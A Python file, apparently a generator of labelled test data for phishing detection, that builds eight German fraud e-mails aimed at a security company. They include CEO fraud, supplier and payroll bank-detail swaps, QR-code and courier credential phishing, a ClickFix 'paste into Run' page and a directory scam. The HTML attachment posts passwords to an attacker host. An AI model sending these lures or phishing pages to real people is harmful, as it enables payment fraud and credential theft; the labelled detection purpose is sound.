"""Attack messages, German (8)."""
import hops
import ids
from assets import pdf_att, qr_att, html_att
from banking import fmt_iban
from common import Mail, Body, S, local
from textfmt import outlook_html, gmail_html, simple_html, esc


def m01():
    text = """Hallo Sabine,

bist Du heute Nachmittag noch im Büro? Ich brauche Dich für eine Sache, die absolut vertraulich bleiben muss.

Wir stehen kurz vor der Unterzeichnung des Kaufvertrags für die Übernahme eines Leitstellenbetreibers in Österreich (interner Projektname „Alpenwacht“). Der Beirat ist informiert, die Kommunikation nach innen und außen ist für Anfang November geplant. Bis dahin ist das eine Insiderinformation – bitte sprich mit niemandem darüber, auch nicht mit Jürgen oder Birgit.

Die Transaktion wird von Dr. Florian Wächter (Kanzlei Wächter & Partner, Wien) begleitet. Er meldet sich heute noch per Mail bei Dir wegen der Sicherheitsleistung von 487.500,00 EUR, die bis morgen 12:00 Uhr auf dem Treuhandkonto eingehen muss. Bitte bereite die Zahlung so vor, dass sie morgen früh als Eilüberweisung rausgehen kann, und gib mir kurz Bescheid, ob das mit Deiner Einzelfreigabe geht.

Ich sitze bis zum Abend in den Verhandlungen und bin telefonisch nicht erreichbar. Bitte antworte nur per Mail.

Danke Dir!
Matthias

Von meinem iPhone gesendet
"""
    inf = hops.exo("look-alike M365 tenant", "DB9PR08MB7345", "eurprd08.prod.outlook.com",
                   "EUR03-DB5-obe.outbound.protection.outlook.com", "mail-db5eur03on2107.outbound.protection.outlook.com",
                   "40.107.4.107", lang="de-DE", tenant_seed="examplegroup-holding.com")
    inf.desc = "Microsoft 365 tenant of the look-alike domain examplegroup-holding.com (EOP outbound)"
    return Mail("ceo-fraud-projekt-alpenwacht", "de", local(2026, 10, 13, 16, 47, "DE"),
                ("Dr. Matthias Köhler", "m.koehler@examplegroup-holding.com"), [S("cfo")],
                "Vertraulich – Projekt Alpenwacht", inf, Body(plain=text, charset="utf-8", cte="base64"),
                hdr_cs="utf-8", hdr_enc="B", hdr_label="utf-8",
                what="CEO fraud (Fake President): 'CEO' tells the CFO about a confidential acquisition and announces a lawyer who will request a 487,500 EUR escrow payment.",
                why="Sent from the look-alike domain examplegroup-holding.com (a Microsoft 365 trial tenant), not via mail-int01 like real internal mail; secrecy ('Insiderinformation', do not tell Jürgen/Birgit), deadline, refuses phone contact, hands over to an external 'lawyer' - textbook BEC/CEO fraud.")


def m02():
    quoted = """-----Ursprüngliche Nachricht-----
Von: Jürgen Weiß <juergen.weiss@example.com>
Gesendet: Montag, 19. Oktober 2026 10:12
An: Petra Lang <p.lang@lieferant-gmbh.de>
Betreff: Offene Posten Kd.-Nr. 40117

Hallo Frau Lang,

anbei wie besprochen unsere Aufstellung der offenen Posten zum 16.10. Bitte gleichen Sie mit Ihrer OP-Liste ab.

Viele Grüße
Jürgen Weiß"""
    text = """Sehr geehrter Herr Weiß,

vielen Dank für die Aufstellung, die Posten stimmen mit unserer OP-Liste überein.

Im Zuge der Jahresabschlussprüfung stellen wir unseren Zahlungsverkehr um. Unser bisheriges Konto bei der Sparkasse KölnBonn wird zum 31.10.2026 aufgelöst; Eingänge auf dieses Konto werden ab sofort automatisch zurückgebucht.

Bitte hinterlegen Sie ab sofort ausschließlich folgende Bankverbindung in Ihrem Kreditorenstamm:

Kontoinhaber: Lieferant GmbH
Bank: Berliner Sparkasse
IBAN: %s
BIC: BELADEBEXXX

Die Bestätigung unserer Bank finden Sie im Anhang.

Für die derzeit fälligen Rechnungen RE-2026-10871 (14.382,40 EUR), RE-2026-10913 (9.716,10 EUR) und RE-2026-11002 (14.314,20 EUR) bitten wir um Ausgleich bis Freitag, damit wir die Auslieferung der Bewegungsmelder und der NVR-Rekorder für Ihr Projekt in Hürth nicht zurückstellen müssen.

Bitte bestätigen Sie mir die Änderung kurz per E-Mail. Telefonisch bin ich diese Woche wegen der Inventur leider kaum erreichbar.

Mit freundlichen Grüßen

Petra Lang
Debitorenbuchhaltung

Lieferant GmbH
Gewerbepark Nord 12 · 41468 Neuss
Tel. +49 2131 40977-23
www.lieferant-gmbh.de

%s
""" % (fmt_iban(ids.MULE_DE_LIEFERANT), quoted)
    pdf = pdf_att("Lieferant_GmbH_Bankbestaetigung.pdf", [
        "Berliner Sparkasse", "Niederlassung der Landesbank Berlin AG", "Alexanderplatz 2, 10178 Berlin", "",
        "Lieferant GmbH", "Gewerbepark Nord 12", "41468 Neuss", "",
        "Berlin, 15.10.2026", "",
        "Bestätigung der Kontoverbindung", "",
        "Hiermit bestätigen wir, dass die Lieferant GmbH, Neuss,",
        "Inhaberin des nachstehenden Geschäftskontos ist:", "",
        "IBAN: " + fmt_iban(ids.MULE_DE_LIEFERANT), "BIC:  BELADEBEXXX", "Kontoart: Geschäftsgirokonto", "",
        "Diese Bestätigung wurde maschinell erstellt und ist ohne Unterschrift gültig.", "",
        "Berliner Sparkasse - Firmenkundenservice"],
        title="Kontobestätigung", author="Firmenkundenservice", creator="Writer", producer="LibreOffice 7.6")
    inf = hops.postfix_host("VPS Contabo", "mail.lieferant-gbmh.de", "vmi2291847.contaboserver.net", "161.97.143.88",
                            "mail.lieferant-gbmh.de", submit_from="unknown", submit_ip="45.134.26.19",
                            mailer=("User-Agent", "Mozilla Thunderbird"), bstyle="thunderbird",
                            desc="Postfix on a Contabo VPS for the look-alike domain lieferant-gbmh.de, Thunderbird")
    return Mail("lieferant-bankwechsel-lookalike", "de", local(2026, 10, 20, 11, 3, "DE"),
                ("Petra Lang", "p.lang@lieferant-gbmh.de"), [S("ap")],
                "AW: Offene Posten Kd.-Nr. 40117 / Änderung unserer Bankverbindung", inf,
                Body(plain=text, charset="utf-8", cte="8bit", flowed=True), cc=[("Stefan Maier", "s.maier@lieferant-gbmh.de")],
                atts=[pdf], hdr_cs="utf-8", hdr_enc="Q", hdr_label="UTF-8",
                in_reply_to="<AM0PR10MB2873B1E4C5D6A7F8091A2B3C4D5E@AM0PR10MB2873.EURPRD10.PROD.OUTLOOK.COM>",
                what="Supplier bank-detail change from a look-alike of Lieferant GmbH (lieferant-gbmh.de), with a fabricated quote of a real-looking thread and a fake 'bank confirmation' PDF.",
                why="Domain lieferant-gbmh.de (letters swapped) instead of lieferant-gmbh.de; sent from a Contabo VPS with Thunderbird while the real supplier uses Microsoft 365; In-Reply-To points to a message that never existed; new account in Berlin for a Neuss company, 'old account closed, payments bounced', deadline Friday, phone contact discouraged. Classic vendor-impersonation BEC.")


def m03():
    quoted = """Von: Katrin Vogel <katrin.vogel@example.com>
Gesendet: Dienstag, 3. November 2026 09:41
An: Sandra Becker <s.becker@hv-rheinblick.de>
Betreff: Revierdienst Neusser Straße 112 - Rechnung 10/2026 und Leistungsnachweis

Hallo Frau Becker,

anbei die Rechnung 10/2026 für den Revier- und Interventionsdienst. Die Wachprotokolle der Nächte vom 14. bis 18.10. reiche ich nach, sobald die Objektleitung sie freigegeben hat.

Viele Grüße
Katrin Vogel
Vertrieb Objektschutz
Example Group"""
    text = """Hallo Frau Vogel,

danke für die schnelle Rückmeldung. Wir haben die Rechnung 10/2026 mit den Wachprotokollen abgeglichen. Die korrigierte Fassung einschließlich der unterschriebenen Leistungsnachweise für die Objekte Neusser Straße 112 und Subbelrather Straße 300 liegt in unserem Dokumentenbereich bereit:

https://rheinblick-dokumente.pages.dev/freigabe/RE-2026-10-4471?u=katrin.vogel%40example.com

Der Zugriff ist aus Datenschutzgründen nur nach Anmeldung mit Ihrem geschäftlichen Microsoft-Konto möglich. Bitte prüfen Sie die Korrekturen bis morgen Mittag, damit unsere Buchhaltung die Zahlung noch im Novemberlauf freigeben kann.

Mit freundlichen Grüßen

Sandra Becker
Objektbetreuung

Hausverwaltung Rheinblick GmbH
Agrippinawerft 22 · 50678 Köln
Tel. 0221 8893-410
"""
    html = ('<!DOCTYPE html><html><head><meta charset="UTF-8"></head><body>'
            '<div style="font-family:Arial,sans-serif;font-size:10pt">'
            + "".join("<p>%s</p>" % esc(p).replace("\n", "<br>") for p in text.split("\n\n")[:2])
            + '<p><a href="https://rheinblick-dokumente.pages.dev/freigabe/RE-2026-10-4471?u=katrin.vogel%40example.com">Korrigierte Rechnung und Leistungsnachweise öffnen</a></p>'
            + "".join("<p>%s</p>" % esc(p).replace("\n", "<br>") for p in text.split("\n\n")[3:])
            + '<blockquote style="border-left:2px solid #ccc;padding-left:8px;color:#555">%s</blockquote>' % esc(quoted).replace("\n", "<br>")
            + "</div></body></html>")
    plain = text + "\n" + "\n".join("> " + l for l in quoted.split("\n")) + "\n"
    inf = hops.ionos("185.213.155.171", webmail=True)
    inf.desc = "genuine IONOS mailbox of hv-rheinblick.de, but sent through OX webmail from a VPN exit (185.213.155.171); Sandra Becker normally sends with Outlook from a Telekom line"
    return Mail("hv-rheinblick-thread-hijack", "de", local(2026, 11, 4, 6, 52, "DE"),
                ("Sandra Becker", "s.becker@hv-rheinblick.de"), [S("sales")],
                "AW: Revierdienst Neusser Straße 112 - Rechnung 10/2026 und Leistungsnachweis", inf,
                Body(plain=plain, html=html, charset="utf-8", cte="quoted-printable"),
                hdr_cs="utf-8", hdr_enc="Q", hdr_label="UTF-8",
                in_reply_to="<6f1c2a9e4d7b4c5e8a3f0b1d2e3c4a5b@EXCH02.corp.example.com>",
                references="<6f1c2a9e4d7b4c5e8a3f0b1d2e3c4a5b@EXCH02.corp.example.com>",
                what="Thread hijack from the genuinely compromised mailbox of customer Sandra Becker (Hausverwaltung Rheinblick): reply in a real invoice thread with a link to a 'document area' on pages.dev that asks for Microsoft 365 credentials.",
                why="Real customer domain and provider, but sent at 06:52 via webmail from a VPN exit instead of her usual Outlook; link to a Cloudflare pages.dev site with the recipient's address prefilled, demanding a Microsoft login to view a customer's PDF; invented time pressure. Credential phishing via compromised partner (see business hard negative).")


def m04():
    url = "https://bewacherregister-login.de-id.net/auth/mfa?sid=7Q2xK9aLw3&u=anja.schroeder%40example.com"
    text = """Sehr geehrte Damen und Herren,

für Ihr Unternehmen Example Group GmbH & Co. KG (Bewachungsunternehmen mit Erlaubnis nach § 34a GewO) stehen im Bewacherregister 14 Wachpersonen zur Regelüberprüfung der Zuverlässigkeit an. Die Überprüfung muss durch das Bewachungsunternehmen bis zum 06.11.2026 bestätigt werden.

Seit dem 01.10.2026 erfolgt die Anmeldung am Unternehmensportal ausschließlich mit mobiler Zwei-Faktor-Authentifizierung. Bitte scannen Sie dazu den QR-Code in dieser Nachricht mit der Kamera Ihres Smartphones und bestätigen Sie anschließend die Liste der betroffenen Mitarbeitenden.

Erfolgt bis zum Fristablauf keine Bestätigung, werden die betroffenen Wachpersonen im Register als "nicht einsetzbar" geführt und die zuständige Erlaubnisbehörde wird informiert.

Vorgangsnummer: BWR-2026-0934471

Mit freundlichen Grüßen
Ihr Team Bewacherregister

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.
"""
    paras = text.split("\n\n")
    html = ('<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            '<title>Bewacherregister</title></head><body style="margin:0;background:#f2f2f2">'
            '<table width="100%" cellpadding="0" cellspacing="0" style="background:#f2f2f2"><tr><td align="center">'
            '<table width="600" cellpadding="24" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">'
            '<tr><td style="background:#00325a;color:#fff;font-size:18px;font-weight:bold">Bewacherregister &middot; Unternehmensportal</td></tr><tr><td>'
            + "".join("<p>%s</p>" % esc(p).replace("\n", "<br>") for p in paras[:3])
            + '<p style="text-align:center"><img src="cid:qr-bwr-4471@sendgrid" width="200" height="200" alt="QR-Code"><br>'
              '<span style="font-size:12px;color:#666">QR-Code mit der Smartphone-Kamera scannen</span></p>'
            + "".join("<p>%s</p>" % esc(p).replace("\n", "<br>") for p in paras[3:])
            + '</td></tr></table></td></tr></table>'
            '<img src="https://u4471293.ct.sendgrid.net/wf/open?upn=u001.Xk2Lq9" width="1" height="1" alt="" style="display:none">'
            '</body></html>')
    inf = hops.sendgrid()
    return Mail("bewacherregister-quishing", "de", local(2026, 10, 27, 8, 14, "DE"),
                ("Bewacherregister - Servicestelle", "noreply@bewacherregister-servicestelle.de"), [S("hr")],
                "Handlungsbedarf: Regelüberprüfung der Zuverlässigkeit – 14 Wachpersonen (Frist 06.11.2026)", inf,
                Body(plain=text, html=html, charset="utf-8", cte="quoted-printable"),
                atts=[qr_att(url, "qr-bwr-4471@sendgrid", "qr_bwr.png")], hdr_cs="utf-8", hdr_enc="Q", hdr_label="UTF-8",
                what="Quishing: fake 'Bewacherregister' (German guard register) notice to HR about reliability re-checks of 14 guards; login only via a QR code.",
                why="Trade-specific lure (§ 34a GewO guard register) but from bewacherregister-servicestelle.de via SendGrid; the QR code decodes to a credential page on de-id.net with HR's address prefilled; moves the victim to a phone outside corporate protection; deadline and threat of guards being 'not deployable'.")


def m05():
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>DHL Express - Zollanmeldung 26DE528411983624E7</title>
<style>body{font-family:Arial,Helvetica,sans-serif;background:#ffcc00;margin:0}
.box{background:#fff;width:420px;margin:60px auto;padding:28px;border-radius:4px;box-shadow:0 2px 8px rgba(0,0,0,.2)}
h1{color:#d40511;font-size:20px}input{width:100%;padding:9px;margin:6px 0 14px;border:1px solid #999}
button{background:#d40511;color:#fff;border:0;padding:11px 18px;font-weight:bold}</style></head>
<body><div class="box"><h1>DHL Express &ndash; Zollabwicklung</h1>
<p>Registriernummer ATLAS: <b>26DE528411983624E7</b><br>Sendung: 4471 0928 36<br>Offene Einfuhrabgaben: <b>1.417,63 EUR</b></p>
<p>Die Zollanmeldung ist vertraulich. Bitte melden Sie sich mit Ihrem geschäftlichen E-Mail-Konto an, um das Dokument anzuzeigen.</p>
<form method="post" action="https://dhl-zollportal.eu-ops.top/atlas/view.php">
<label>E-Mail-Adresse</label><input type="email" name="login" value="markus.baeumer@example.com">
<label>Kennwort</label><input type="password" name="passwd">
<input type="hidden" name="ref" value="26DE528411983624E7">
<button type="submit">Dokument anzeigen</button></form>
<p style="font-size:11px;color:#666">&copy; 2026 DHL International GmbH. Alle Rechte vorbehalten.</p></div></body></html>
"""
    text = """Guten Tag,

für Ihre Sendung 4471 0928 36 (Absender: Shenzhen Hualin Security Technology Co., Ltd., Inhalt: IP-Kameras und NVR-Rekorder, Zollwert 6.842,00 USD) sind bei der Einfuhr Abgaben angefallen:

Zoll: 0,00 EUR
Einfuhrumsatzsteuer: 1.312,63 EUR
Auslagen DHL (Vorlageprovision): 105,00 EUR
Gesamt: 1.417,63 EUR

Die Sendung wird bis zur Begleichung im Zolllager Leipzig zurückgehalten. Die vollständige Zollanmeldung (ATLAS-Registriernummer 26DE528411983624E7) finden Sie im Anhang. Bitte öffnen Sie das Dokument und bestätigen Sie die Angaben innerhalb von 48 Stunden, da die Sendung andernfalls an den Absender zurückgeht und Lagergeld berechnet wird.

Mit freundlichen Grüßen
DHL Express Germany GmbH
Zollabwicklung Import
"""
    inf = hops.exim_cpanel("compromised SMB (cPanel)", "srv37.cp-hosting24.de", "185.26.156.37", "[192.168.1.23]",
                           "102.89.34.12", "malerbetrieb-kessler.de",
                           mailer=("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"), bstyle="phpmailer",
                           msgid_fn=lambda ctx: "<%s@malerbetrieb-kessler.de>" % "".join(ctx.rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(32)),
                           desc="compromised mailbox of a painting business on cPanel/Exim shared hosting, submitted from 102.89.34.12")
    return Mail("zoll-atlas-html-anhang", "de", local(2026, 11, 10, 14, 22, "DE"),
                ("DHL Express Zollabwicklung", "buchhaltung@malerbetrieb-kessler.de"), [S("proc")],
                "Einfuhrabgaben ausstehend – Sendung 4471 0928 36 (ATLAS 26DE528411983624E7)", inf,
                Body(plain=text, html=simple_html(text), charset="utf-8", cte="quoted-printable"),
                atts=[html_att("Zollanmeldung_26DE528411983624E7.html", page, note="HTML credential form posting to eu-ops.top, no script")],
                hdr_cs="utf-8", hdr_enc="Q", hdr_label="UTF-8",
                what="Customs/courier credential phishing: 'DHL Express' claims import VAT for a shipment of IP cameras and attaches the 'ATLAS customs declaration' as an HTML login page.",
                why="Display name DHL but address at a painter's business (compromised cPanel mailbox, PHPMailer, submitted from a Nigerian IP); the HTML attachment is a local credential form with procurement's address prefilled posting to eu-ops.top; fits the trade (camera imports) and ATLAS jargon.")


def m06():
    text = """Hallo Anja,

ich habe mein Gehaltskonto gewechselt, die alte Bank hat das Kontomodell umgestellt und ich habe das Konto gekündigt. Kannst Du bitte ab der Novemberabrechnung mein Gehalt auf das neue Konto überweisen?

Kontoinhaber: Dirk Hartmann
IBAN: %s
Bank: N26

Ich schreibe von meiner privaten Adresse, weil ich gerade ein paar Tage frei habe und nicht an Outlook komme. Gib mir bitte kurz Bescheid, wenn es eingetragen ist, die Abrechnung läuft ja schon am 20.

Danke Dir und viele Grüße
Dirk
""" % fmt_iban(ids.MULE_DE_PAYROLL)
    inf = hops.gmail(n=54, ip_last=54, helo_prefix="mail-wm1-f", net="209.85.128")
    return Mail("gehaltskonto-umleitung", "de", local(2026, 11, 12, 21, 38, "DE"),
                ("Dirk Hartmann", "dirk.hartmann.koeln@gmail.com"), [S("hr")],
                "Neue Bankverbindung Gehalt", inf,
                Body(plain=text, html=gmail_html(text), charset="utf-8", cte="quoted-printable"),
                hdr_cs="utf-8", hdr_enc="Q", hdr_label="UTF-8",
                what="Payroll diversion: 'Dirk Hartmann' (head of the alarm receiving centre) asks HR from a Gmail address to pay his November salary to a new neobank account.",
                why="Freemail address never used by the employee, sent late in the evening shortly before the payroll cut-off, asks for a bank change by e-mail instead of the signed HR form / self-service, explains away the private address ('no Outlook access'). Standard payroll-diversion BEC.")


def m07():
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Prüfbericht EMA 4471 - Vorschau</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;margin:0}
.bar{background:#2b579a;color:#fff;padding:10px 16px;font-size:14px}
.doc{width:640px;margin:30px auto;background:#fff;padding:30px;filter:blur(0)}
.err{border:1px solid #c50f1f;background:#fde7e9;padding:16px;margin-top:20px}
.btn{display:inline-block;background:#2b579a;color:#fff;padding:8px 14px;margin-top:8px}
kbd{border:1px solid #999;border-radius:3px;padding:1px 5px;background:#eee}</style></head>
<body><div class="bar">Word Online &middot; Pruefbericht_EMA_4471_Huerth.docx</div>
<div class="doc"><h2>Prüfbericht Instandhaltung Einbruchmeldeanlage</h2>
<p>Objekt 4471 &middot; Logistikzentrum Hürth &middot; Prüfung nach DIN VDE 0833-1/-3</p>
<div class="err"><b>Die Vorschau konnte nicht geladen werden.</b><br>
Fehler 0x8004FC12: Die Schriftart-Erweiterung für dieses Dokument ist auf Ihrem Gerät nicht installiert.<br><br>
<b>So beheben Sie das Problem:</b><br>
1. Klicken Sie auf <span class="btn">Lösung kopieren</span><br>
2. Drücken Sie <kbd>Windows</kbd> + <kbd>R</kbd><br>
3. Fügen Sie mit <kbd>Strg</kbd> + <kbd>V</kbd> ein und drücken Sie <kbd>Enter</kbd><br>
4. Laden Sie diese Seite anschließend neu.</div></div></body></html>
"""
    text = """Sehr geehrter Herr Hartmann,

im Rahmen der turnusmäßigen Instandhaltung der Einbruchmeldeanlage im Objekt Logistikzentrum Hürth (Objekt-Nr. 4471, aufgeschaltet auf Ihre Notruf- und Serviceleitstelle) wurden zwei Mängel der Kategorie A festgestellt:

- Sabotageüberwachung Meldergruppe 3 (Lager Süd) ohne Funktion
- Akkukapazität der Zentrale unterhalb der geforderten Überbrückungszeit

Da die Anlage auf Ihre NSL aufgeschaltet ist, benötigen wir Ihre Kenntnisnahme und Gegenzeichnung des Prüfberichts bis zum 30.10.2026. Den Bericht erhalten Sie im Anhang als Online-Vorschau, da unser Kundenportal derzeit gewartet wird.

Mit freundlichen Grüßen

i. A. Tobias Reuter
Kundendienst / Instandhaltung
Brenner Sicherheitstechnik GmbH
Tel. 02233 71940-0
"""
    inf = hops.mailgun("mg.brenner-sicherheitstechnik.de")
    return Mail("clickfix-pruefbericht-ema", "de", local(2026, 10, 28, 10, 5, "DE"),
                ("Brenner Sicherheitstechnik GmbH", "service@brenner-sicherheitstechnik.de"), [S("arc")],
                "Prüfbericht Instandhaltung EMA - Objekt 4471 Hürth - Mängel Kategorie A", inf,
                Body(plain=text, html=simple_html(text), charset="iso-8859-15", cte="quoted-printable"),
                atts=[html_att("Prüfbericht_EMA_4471_Hürth.html", page, note="ClickFix page: fake 'Win+R, Ctrl+V, Enter' fix, no script")],
                hdr_cs="iso-8859-15", hdr_enc="Q", hdr_label="ISO-8859-15",
                what="ClickFix: a supposed alarm installer sends a maintenance report for an intrusion-alarm system connected to the ARC; the HTML 'preview' tells the reader to press Win+R, paste and Enter to 'fix' a missing font.",
                why="Unknown installer domain sending through Mailgun; the attachment is not a report but a fake Word Online error instructing the user to paste clipboard contents into the Run dialog (ClickFix technique used to run PowerShell loaders); trade-specific pretext (DIN VDE 0833, NSL) and a deadline.")


def m08():
    text = """Sehr geehrte Damen und Herren,

zur Aktualisierung des Eintrags Ihres Unternehmens im Zentralregister für Sicherheits- und Bewachungsdienstleister bitten wir Sie, die im beigefügten Antrag aufgeführten Unternehmensdaten zu prüfen, gegebenenfalls zu ergänzen und das Formular unterschrieben bis zum 16.11.2026 zurückzusenden (per E-Mail oder Fax an 0341 99385-19).

Nicht korrigierte Angaben werden unverändert übernommen.

Aktenzeichen: ZRS-26-40733
Unternehmen: Example Group GmbH & Co. KG
Branche: Bewachungsgewerbe / Notruf- und Serviceleitstelle

Mit freundlichen Grüßen
Zentralregister Sicherheit
Abteilung Eintragungen
"""
    pdf = pdf_att("Eintragungsantrag_ZRS-26-40733.pdf", [
        "ZENTRALREGISTER SICHERHEIT", "Register für Sicherheits- und Bewachungsdienstleister", "", 
        "Aktenzeichen: ZRS-26-40733                       Datum: 02.11.2026", "",
        "Eintragungsantrag / Aktualisierung", "",
        "Firma:        Example Group GmbH & Co. KG",
        "Anschrift:    Industriestraße 40, 50735 Köln",
        "Branche:      Bewachungsgewerbe, Notruf- und Serviceleitstelle",
        "Telefon:      ____________________   E-Mail: __________________", "",
        "Eintragungsentgelt (netto, jährlich):        1.290,00 EUR",
        "zzgl. 19 % USt.:                                 245,10 EUR",
        "Zahlbar nach Eintragung auf: IBAN " + fmt_iban(ids.REGISTER_DE), "", 
        "Ort, Datum, Unterschrift, Firmenstempel: _______________________________", "",
        "Mit der Unterzeichnung wird der Auftrag zur Eintragung in das private",
        "Online-Verzeichnis www.zentralregister-sicherheit.de für eine Laufzeit",
        "von 36 Monaten erteilt. Der Vertrag verlängert sich um jeweils 12 Monate,",
        "sofern er nicht 3 Monate vor Ablauf gekündigt wird. Es besteht kein",
        "Zusammenhang mit amtlichen Registern oder dem Bewacherregister.",
        "Gerichtsstand ist Leipzig."], title="Eintragungsantrag", author="ZRS", creator="PDFsharp 1.50", producer="PDFsharp 1.50.5147")
    inf = hops.brevo()
    return Mail("register-eintragungsofferte", "de", local(2026, 11, 2, 9, 31, "DE"),
                ("Zentralregister Sicherheit", "eintragung@zentralregister-sicherheit.de"), [S("assist")],
                "Aktualisierung Ihres Registereintrags 2027 – Az. ZRS-26-40733", inf,
                Body(plain=text, html=simple_html(text), charset="utf-8", cte="quoted-printable"),
                atts=[pdf], hdr_cs="utf-8", hdr_enc="Q", hdr_label="UTF-8",
                extra=[("List-Unsubscribe", "<https://r.zentralregister-sicherheit.de/unsub/40733>")],
                what="Fake register / directory offer: 'Zentralregister Sicherheit' asks to 'update' the company's entry; the PDF form is a paid 36-month directory contract (1,290 EUR + VAT per year).",
                why="Looks like an official register update (Aktenzeichen, deadline, 'uncorrected data is taken over'), sent through Brevo; small print reveals a binding private directory contract with automatic renewal. Register/directory scam aimed at assistants and bookkeepers.")


def messages():
    return [m01(), m02(), m03(), m04(), m05(), m06(), m07(), m08()]
